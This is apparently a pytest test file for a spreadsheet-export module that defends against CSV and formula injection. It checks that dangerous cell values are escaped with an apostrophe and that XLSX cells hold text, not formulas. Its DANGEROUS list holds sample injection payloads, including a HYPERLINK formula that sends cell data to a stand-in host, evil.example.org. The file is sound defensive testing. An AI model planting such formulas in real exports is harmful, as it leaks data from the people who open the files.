"""Exports that a spreadsheet opens without running anything (SPEC section 9)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from karma.lib.spreadsheet_safe import (
    CSV_CHUNK_ROWS,
    iter_csv,
    safe_cell,
    write_csv,
    write_xlsx,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example.org/?d="&A1,"open")',
    "+SUM(1+1)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]
HARMLESS = ["Ana", "ana.silva@example.com", "O'Brien, Jr.", "", " =not first", "a=b"]


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def read_xlsx(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("value", DANGEROUS)
def test_safe_cell_prefixes_dangerous_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, 42, -7, 3.5, None, date(2024, 1, 2)])
def test_safe_cell_leaves_numbers_and_harmless_text_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_prefixes_every_dangerous_cell(value):
    rows = read_csv(write_csv([[value, "x"]], header=["name", "other"]))

    assert rows[1] == ["'" + value, "x"]


def test_csv_prefixes_dangerous_header_cells():
    rows = read_csv(write_csv([], header=["=cmd", "email"]))

    assert rows == [["'=cmd", "email"]]


def test_csv_keeps_numbers_and_harmless_text():
    data = write_csv([[*HARMLESS, 42, -7, 3.5]], header=["c"] * 9)

    assert read_csv(data)[1] == [*HARMLESS, "42", "-7", "3.5"]


def test_csv_starts_with_bom_and_ends_lines_with_crlf():
    data = write_csv([["ana@example.com", "Ana"]], header=["email", "name"])

    assert data.startswith(b"\xef\xbb\xbf")
    assert data == b"\xef\xbb\xbfemail,name\r\nana@example.com,Ana\r\n"


def test_csv_round_trips_commas_quotes_and_line_breaks():
    tricky = ["O'Brien, Jr.", 'Kate "KD"', "Ali\nJon", "two\r\nlines", "Agnès Müller"]

    rows = read_csv(write_csv([tricky], header=["a", "b", "c", "d", "e"]))

    assert rows[1] == tricky


def test_csv_streams_in_chunks_with_one_bom():
    rows = [[f"learner{n}@example.com"] for n in range(CSV_CHUNK_ROWS * 2 + 3)]

    chunks = list(iter_csv(iter(rows), header=["email"]))

    assert len(chunks) == 4
    assert b"".join(chunks).count(b"\xef\xbb\xbf") == 1
    assert len(read_csv(b"".join(chunks))) == len(rows) + 1


@pytest.mark.parametrize("value", DANGEROUS)
def test_xlsx_prefixes_every_dangerous_cell_and_stores_text(value):
    rows = read_xlsx(write_xlsx([[value]], header=["name"]))

    # XML readers turn a bare carriage return into a line feed on reading.
    assert rows[1] == ["'" + value.replace("\r", "\n")]


def test_xlsx_writes_no_formula():
    data = write_xlsx([["=1+1", "@SUM(A1)"]], header=["=cmd", "b"])

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type == "s"


def test_xlsx_keeps_numbers_and_harmless_text():
    rows = read_xlsx(write_xlsx([["Ana", 42, -7, 3.5, "a=b"]], header=["c"] * 5))

    assert rows[1] == ["Ana", 42, -7, 3.5, "a=b"]


def test_xlsx_drops_characters_xml_cannot_hold_before_checking():
    rows = read_xlsx(write_xlsx([["\x01=1+1", "bell\x07"]], header=["a", "b"]))

    assert rows[1] == ["'=1+1", "bell"]


def test_xlsx_writes_aware_datetimes_as_wall_clock_time():
    moment = datetime(2024, 5, 6, 7, 8, 9, tzinfo=UTC)

    rows = read_xlsx(write_xlsx([[moment]], header=["when"]))

    # Excel cells hold no time zone, so the cell reads back naive.
    wall_clock = datetime(2024, 5, 6, 7, 8, 9)  # noqa: DTZ001 (see above)
    assert rows[1] == [wall_clock]
